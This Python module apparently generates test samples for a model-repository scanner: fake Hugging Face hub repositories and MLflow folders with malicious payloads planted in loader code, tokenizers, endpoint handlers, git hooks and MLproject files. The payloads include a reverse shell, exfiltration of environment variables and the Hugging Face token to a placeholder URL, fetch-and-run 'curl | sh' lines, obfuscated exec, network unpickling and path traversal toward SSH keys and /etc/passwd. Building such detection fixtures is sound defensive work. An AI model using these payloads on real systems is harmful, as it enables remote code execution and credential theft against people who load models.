"""Whole repositories: code that a hub's loader imports, and MLflow folders."""

import base64
import json
import marshal
import struct
from collections.abc import Iterator

from .carried import EVIL
from .sample import CODE, COMMAND, HOST, URL, Sample

__all__ = ["BODIES", "CARD", "CLASS", "TENSORS", "samples"]

HEADER = b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
TENSORS = struct.pack("<Q", len(HEADER)) + HEADER + bytes(8)
CARD = b"---\nlicense: apache-2.0\nlibrary_name: transformers\n---\n# A small model\n\nTrained on public data.\n"
CODED = base64.b64encode(CODE.encode()).decode()

#: What runs when the module is imported, or when its class is made.
BODIES = {
    "runs a command": f"import os\nos.system('{COMMAND}')\n",
    "hides a command in base64": f"import base64\nexec(base64.b64decode('{CODED}'))\n",
    "opens a reverse shell": f"import socket, subprocess, os\ns = socket.socket()\ns.connect(('{HOST}', 4444))\n"
    "for n in (0, 1, 2):\n    os.dup2(s.fileno(), n)\nsubprocess.call(['/bin/sh', '-i'])\n",
    "sends the environment": f"import os, urllib.request\nurllib.request.urlopen('{URL}', "
    f"data=repr(dict(os.environ)).encode())\n",
    "sends a token": f"import pathlib, requests\ntoken = "
    f"pathlib.Path.home().joinpath('.cache/huggingface/token').read_text()\n"
    f"requests.post('{URL}', json={{'t': token}})\n",
    "fetches a second stage": f"import urllib.request\nexec(urllib.request.urlopen('{URL}/x.py').read())\n",
    "imports by pieces": "m = __import__('o' + 's')\ngetattr(m, 'sys' + 'tem')('" + COMMAND + "')\n",
    "runs marshalled code": f"import marshal\nexec(marshal.loads({marshal.dumps(compile(CODE, 'm', 'exec'))!r}))\n",
    "appends to a shell's start": "import pathlib\nwith open(pathlib.Path.home() / '.bashrc', 'a') as f:\n"
    "    f.write('true\\n')\n",
    "loads native code": "import ctypes\nctypes.CDLL('./libpayload.so').start()\n",
    "runs a command through ctypes": f"import ctypes\nctypes.CDLL(None).system(b'{COMMAND}')\n",
    "unpickles from the network": f"import pickle, urllib.request as u\nstate = "
    f"pickle.loads(u.urlopen('{URL}').read())\n",
}
CLASS = (
    "\nfrom transformers import PreTrainedModel\n\n\nclass TinyModel(PreTrainedModel):\n"
    "    def forward(self, x):\n        return x\n"
)


def _hub() -> Iterator[tuple[str, dict[str, bytes]]]:
    for number, (name, body) in enumerate(BODIES.items()):
        source = body + CLASS
        if number % 3 == 1:
            inner = "".join(f"        {line}\n" for line in body.splitlines())
            source = CLASS.replace(
                "    def forward",
                f"    def __init__(self, config):\n        super().__init__(config)\n{inner}\n    def forward",
            )
        config = {
            "model_type": "tiny",
            "auto_map": {"AutoModel": "modeling_tiny.TinyModel", "AutoConfig": "modeling_tiny.TinyConfig"},
        }
        yield (
            f"auto_map, code {name}",
            {
                "config.json": json.dumps(config).encode(),
                "modeling_tiny.py": source.encode(),
                "model.safetensors": TENSORS,
                "README.md": CARD,
            },
        )
    shell = (
        f"import subprocess\n\n\nclass EndpointHandler:\n    def __init__(self, path=''):\n"
        f"        subprocess.run('curl {URL} | sh', shell=True)\n"
    )
    yield (
        "endpoint handler",
        {"handler.py": shell.encode(), "config.json": b'{"model_type": "bert"}', "model.safetensors": TENSORS},
    )
    tokenizer = {
        "tokenizer_class": "TinyTokenizer",
        "auto_map": {"AutoTokenizer": ["tokenization_tiny.TinyTokenizer", None]},
    }
    yield (
        "tokenizer code",
        {
            "tokenizer_config.json": json.dumps(tokenizer).encode(),
            "tokenization_tiny.py": BODIES["runs a command"].encode(),
        },
    )
    yield (
        "diffusers' custom pipeline",
        {
            "model_index.json": b'{"_class_name": ["pipeline", "Custom"], "_diffusers_version": "0.30.0"}',
            "pipeline.py": BODIES["fetches a second stage"].encode(),
            "unet/diffusion_pytorch_model.safetensors": TENSORS,
        },
    )
    yield (
        "dataset script",
        {
            "corpus.py": (
                BODIES["sends the environment"]
                + "import datasets\nclass Corpus(datasets.GeneratorBasedBuilder):\n    pass\n"
            ).encode(),
            "README.md": CARD,
        },
    )
    yield (
        "custom generate",
        {
            "custom_generate/generate.py": BODIES["hides a command in base64"].encode(),
            "config.json": b'{"model_type": "llama"}',
        },
    )
    index = {"metadata": {"total_size": 8}, "weight_map": {"w": "../../../../../root/.ssh/id_rsa"}}
    yield (
        "index with a path upwards",
        {"model.safetensors.index.json": json.dumps(index).encode(), "config.json": b"{}"},
    )
    index["weight_map"] = {"w": "/etc/passwd"}
    yield (
        "index with an absolute path",
        {"pytorch_model.bin.index.json": json.dumps(index).encode(), "config.json": b"{}"},
    )
    yield (
        "safe weights beside a bad pickle",
        {"model.safetensors": TENSORS, "optimizer/state.bin": EVIL, "config.json": b"{}", "README.md": CARD},
    )
    yield (
        "bad pickle deep in a hidden folder",
        {"model.safetensors": TENSORS, ".cache/x/y/z/blob": EVIL, "README.md": CARD},
    )
    yield (
        "git hook",
        {
            "model.safetensors": TENSORS,
            ".git/hooks/post-checkout": f"#!/bin/sh\ncurl {URL} | sh\n".encode(),
            ".git/HEAD": b"ref: refs/heads/main\n",
        },
    )


def _mlflow() -> Iterator[tuple[str, dict[str, bytes]]]:
    def model(flavour: str) -> bytes:
        return f"artifact_path: model\nflavors:\n{flavour}mlflow_version: 2.9.2\nmodel_uuid: 0a1b\n".encode()

    python = "  python_function:\n    env: conda.yaml\n    loader_module: {}\n    python_version: 3.11.4\n"
    yield (
        "loader module in code paths",
        {
            "MLmodel": model(python.format("loader") + "    code: code\n"),
            "code/loader.py": (BODIES["runs a command"] + "def _load_pyfunc(p): ...\n").encode(),
        },
    )
    yield (
        "cloudpickled python model",
        {
            "MLmodel": model(python.format("mlflow.pyfunc.model") + "    python_model: python_model.pkl\n"),
            "python_model.pkl": EVIL,
        },
    )
    yield (
        "scikit-learn flavour",
        {
            "MLmodel": model(
                python.format("mlflow.sklearn")
                + "    model_path: model.pkl\n  sklearn:\n    pickled_model: model.pkl\n"
            ),
            "model.pkl": EVIL,
        },
    )
    yield (
        "pytorch flavour",
        {
            "MLmodel": model(python.format("mlflow.pytorch") + "    data: data\n"),
            "data/model.pth": EVIL,
            "data/pickle_module_info.txt": b"mlflow.pytorch.pickle_module",
        },
    )
    yield (
        "pickle module of its own",
        {
            "MLmodel": model(python.format("mlflow.pytorch") + "    data: data\n    code: code\n"),
            "data/model.pth": b"\x80\x02}.",
            "data/pickle_module_info.txt": b"my_pickle",
            "code/my_pickle.py": BODIES["opens a reverse shell"].encode(),
        },
    )
    yield (
        "model from code",
        {
            "MLmodel": model(python.format("mlflow.pyfunc.model") + "    model_code_path: agent.py\n"),
            "agent.py": BODIES["sends a token"].encode(),
        },
    )
    yield (
        "project that fetches and runs",
        {"MLproject": f'name: p\nentry_points:\n  main:\n    command: "curl {URL} | bash"\n'.encode()},
    )
    yield (
        "path of the model goes upwards",
        {"MLmodel": model(python.format("mlflow.sklearn") + "    model_path: ../../../../etc/passwd\n")},
    )
    yield (
        "data path with a bad joblib",
        {
            "MLmodel": model("  sklearn:\n    pickled_model: m.joblib\n    serialization_format: cloudpickle\n"),
            "m.joblib": EVIL,
        },
    )


def samples() -> Iterator[Sample]:
    for group, made in (("hub repositories", _hub()), ("MLflow folders", _mlflow())):
        for name, files in made:
            yield Sample(group, name, files)
